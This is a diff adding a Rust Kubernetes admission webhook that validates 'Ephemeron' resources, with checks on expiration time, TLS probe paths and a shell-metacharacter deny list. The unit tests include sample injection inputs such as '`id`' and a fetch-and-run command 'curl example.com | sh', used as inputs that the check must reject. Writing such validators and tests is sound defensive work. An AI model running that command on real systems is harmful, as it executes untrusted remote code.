@@ -0,0 +1,152 @@
+// Validating admission webhook for `Ephemeron`.
+// Checks the invariants across the fields that the schema can't express.
+use std::{convert::Infallible, sync::Arc};
+
+use kube::core::admission::{AdmissionRequest, AdmissionResponse, AdmissionReview, Operation};
+use warp::{http::StatusCode, Reply};
+
+use super::{json_response, Config};
+use crate::Ephemeron;
+
+// Characters that change the meaning of the command if it's passed to a shell.
+const SHELL_METACHARACTERS: &[char] = &[';', '|', '&', '$', '`', '<', '>', '\n'];
+
+// `POST /admission` `AdmissionReview` -> `AdmissionReview`
+// Called by the API server on create and update. Denied ones respond with the reason.
+// Always responds with 200, so the API server doesn't treat it as a failure of the webhook.
+#[tracing::instrument(skip(review, config), level = "debug")]
+pub(super) async fn validate(
+    review: AdmissionReview<Ephemeron>,
+    config: Arc<Config>,
+) -> Result<impl Reply, Infallible> {
+    let req: AdmissionRequest<Ephemeron> = match review.try_into() {
+        Ok(req) => req,
+        Err(err) => {
+            return Ok(json_response(
+                &AdmissionResponse::invalid(err).into_review(),
+                StatusCode::OK,
+            ))
+        }
+    };
+    let mut res = AdmissionResponse::from(&req);
+    if let Some(eph) = &req.object {
+        if let Err(reason) = check(eph, req.operation == Operation::Create, &config) {
+            tracing::debug!("denied {}: {}", req.name, reason);
+            res = res.deny(reason);
+        }
+    }
+    Ok(json_response(&res.into_review(), StatusCode::OK))
+}
+
+// The reason to deny `eph` if any.
+fn check(eph: &Ephemeron, creating: bool, config: &Config) -> Result<(), String> {
+    // Updates of expired ones are allowed, so they can be modified while being deleted.
+    if creating && eph.spec.expiration_time <= chrono::Utc::now() {
+        return Err(format!(
+            "expirationTime {} is in the past",
+            eph.spec.expiration_time.to_rfc3339()
+        ));
+    }
+    if eph.has_tls() && eph.readiness_probes().any(|p| p.path.is_empty()) {
+        return Err("readiness probes must have a path with TLS".to_owned());
+    }
+    // The preset annotation is set by the client, so it can't tell which preset is used.
+    // Only the command of the non-strict preset in it is trusted, because that's what the config allows.
+    let exempt = eph
+        .preset()
+        .filter(|p| !config.strict_command_presets.contains(*p))
+        .and_then(|p| config.presets.get(p))
+        .map_or(false, |p| p.service.command == eph.spec.service.command);
+    if !config.strict_command_presets.is_empty() && !exempt {
+        let arg = eph
+            .spec
+            .service
+            .command
+            .iter()
+            .flatten()
+            .find(|arg| arg.contains(SHELL_METACHARACTERS));
+        if let Some(arg) = arg {
+            return Err(format!(
+                "command must not contain shell metacharacters: {}",
+                arg
+            ));
+        }
+    }
+    Ok(())
+}
+
+#[cfg(test)]
+mod tests {
+    use kube::ResourceExt;
+
+    use super::*;
+    use crate::resource::{test_ephemeron, PRESET_ANNOTATION};
+
+    fn ephemeron(preset: Option<&str>, command: &[&str]) -> Ephemeron {
+        let mut eph = test_ephemeron(serde_json::json!({
+            "image": "nginx",
+            "port": 80,
+            "command": command,
+        }));
+        if let Some(preset) = preset {
+            eph.annotations_mut()
+                .insert(PRESET_ANNOTATION.to_owned(), preset.to_owned());
+        }
+        eph
+    }
+
+    #[test]
+    fn test_check() {
+        let config = super::super::test_config(
+            r#"{
+                strict_command_presets: [nginx],
+                presets: {
+                    nginx: {image: nginx, port: 80},
+                    shell: {image: sh, port: 80, command: [sh, -c, "nginx && sleep 1"]},
+                }
+            }"#,
+        );
+        let safe = ["nginx", "-g", "daemon off"];
+        let unsafe_ = ["sh", "-c", "nginx && sleep 1"];
+        assert!(check(&ephemeron(Some("nginx"), &safe), true, &config).is_ok());
+        for arg in [";", "|", "&", "$HOME", "`id`", "<", ">", "\n"] {
+            let eph = ephemeron(Some("nginx"), &["echo", arg]);
+            assert!(check(&eph, true, &config).is_err(), "{}", arg);
+        }
+        assert!(check(&ephemeron(Some("nginx"), &unsafe_), true, &config).is_err());
+        // The command of a non-strict preset is allowed.
+        assert!(check(&ephemeron(Some("shell"), &unsafe_), true, &config).is_ok());
+        // The annotation can't be changed or omitted to skip the check.
+        let other = ["sh", "-c", "curl example.com | sh"];
+        assert!(check(&ephemeron(Some("shell"), &other), true, &config).is_err());
+        assert!(check(&ephemeron(Some("unknown"), &unsafe_), true, &config).is_err());
+        assert!(check(&ephemeron(None, &unsafe_), true, &config).is_err());
+        let lenient = super::super::test_config("{}");
+        assert!(check(&ephemeron(None, &unsafe_), true, &lenient).is_ok());
+    }
+
+    #[test]
+    fn test_check_expiration_time() {
+        let config = super::super::test_config("{}");
+        let mut eph = ephemeron(None, &[]);
+        eph.spec.expiration_time = chrono::Utc::now() - chrono::Duration::minutes(1);
+        assert!(check(&eph, true, &config).is_err());
+        // Expired ones can be updated.
+        assert!(check(&eph, false, &config).is_ok());
+    }
+
+    #[test]
+    fn test_check_tls_probes() {
+        let config = super::super::test_config("{}");
+        let tls = |path: &str| {
+            test_ephemeron(serde_json::json!({
+                "image": "nginx",
+                "port": 80,
+                "tlsSecretName": "tls",
+                "readinessProbe": { "path": path },
+            }))
+        };
+        assert!(check(&tls("/"), true, &config).is_ok());
+        assert!(check(&tls(""), true, &config).is_err());
+    }
+}